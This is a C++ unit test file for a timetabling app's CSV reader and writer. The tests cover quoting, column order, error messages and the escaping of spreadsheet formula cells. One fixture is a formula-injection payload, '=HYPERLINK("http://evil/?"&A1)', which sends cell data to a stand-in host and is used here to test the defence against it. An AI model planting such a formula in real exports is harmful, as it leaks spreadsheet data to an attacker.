#include <ferry/apps/timetabling/io/CsvReader.hpp>

#include <string>

#include <doctest/doctest.h>

#include <ferry/apps/timetabling/io/InputError.hpp>
#include <ferry/apps/timetabling/io/csvLine.hpp>

using namespace timetabling;

namespace {

CsvReader reader(const std::string& text) { return CsvReader(TextFile("rooms.csv", text), {"room", "seats"}, {"building"}); }

/// Reads the table to its end. Returns the error.
std::string refusalOf(const std::string& text) {
    try {
        CsvReader table = reader(text);
        while (table.next()) {
            table.name("room");
            table.number("seats", 0, 500);
        }
    } catch (const InputError& error) {
        return error.what();
    }
    return "none";
}

}    // namespace

TEST_CASE("CsvReader: columns in any order, quoted cells, blanks, both kinds of line end") {
    CsvReader table = reader("\xEF\xBB\xBFseats , building,\"room\"\r\n\r\n 20 ,\"Main, \"\"old\"\"\", A.1\r\n30,,B\n");
    REQUIRE(table.next());
    CHECK(table.number("seats", 0, 100) == 20);
    CHECK(table.text("building") == "Main, \"old\"");
    CHECK(table.name("room") == "A.1");
    REQUIRE(table.next());
    CHECK_FALSE(table.has("building"));
    CHECK(table.name("room") == "B");
    CHECK_FALSE(table.next());
}

TEST_CASE("CsvReader: semicolons separate where the head has them and no comma") {
    CsvReader table = reader("room;seats\nA,1;20\n");
    REQUIRE(table.next());
    CHECK(table.text("room") == "A,1");
    CHECK_FALSE(table.has("building"));
}

TEST_CASE("CsvReader: what is wrong is told with file, line and column") {
    CHECK(refusalOf("") == "rooms.csv:1: expected the columns room, seats and optionally building, found ''");
    CHECK(refusalOf("room\nA\n") == "rooms.csv:1: expected a column 'seats', found none");
    CHECK(refusalOf("room,seats,colour\n") == "rooms.csv:1: expected the columns room, seats and optionally building, found 'colour'");
    CHECK(refusalOf("room,seats,room\n") == "rooms.csv:1: expected each column once, found 'room' twice");
    CHECK(refusalOf("room,seats\nA,1\nB\n") == "rooms.csv:3: expected 2 cells as in the head, found 1");
    CHECK(refusalOf("room,seats\nA,many\n") == "rooms.csv:2: column 'seats': expected a whole number from 0 to 500, found 'many'");
    CHECK(refusalOf("room,seats\nA,501\n") == "rooms.csv:2: column 'seats': expected a whole number from 0 to 500, found '501'");
    CHECK(refusalOf("room,seats\nA,\n") == "rooms.csv:2: column 'seats': expected something, found ''");
    CHECK(refusalOf("room,seats\nA 1,5\n") == "rooms.csv:2: column 'room': expected a name without blanks, found 'A 1'");
    CHECK(refusalOf("room,seats\n\"A,5\n") == "rooms.csv:2: expected a closing quote in the same line");
    CHECK(refusalOf("room,seats\n\"A\"B,5\n") == "rooms.csv:2: expected ',' behind a closing quote, found 'B,5'");
    CHECK(refusalOf("room,seats\nA,5\n") == "none");
}

TEST_CASE("csvLine: what a spreadsheet would take for a formula has a quote before it, and each cell is read back as it was") {
    CHECK(csvLine({"=1+1", "+2", "-3", "@x", "\tx"}) == "'=1+1,'+2,'-3,'@x,'\tx\r\n");
    CHECK(csvLine({"a=b", "'s", "''", "1-2", ""}) == "a=b,'s,'',1-2,\r\n");
    for (const std::string cell : {"=HYPERLINK(\"http://evil/?\"&A1)", "+2", "-2+3", "@SUM(A1)", "'=x", "''=x", "'s", "plain", "'", "'a=b"}) {
        CAPTURE(cell);
        CsvReader table = reader("seats,room\r\n" + csvLine({"1", cell}));
        REQUIRE(table.next());
        CHECK(table.text("room") == cell);
    }
}

TEST_CASE("InputError: text of a file shows no control characters, also of two bytes") {
    CHECK(printable("a\x1b[31m\xc2\x9b\x7f\xc3\xa9\n") == "a?[31m??\xc3\xa9?");
}
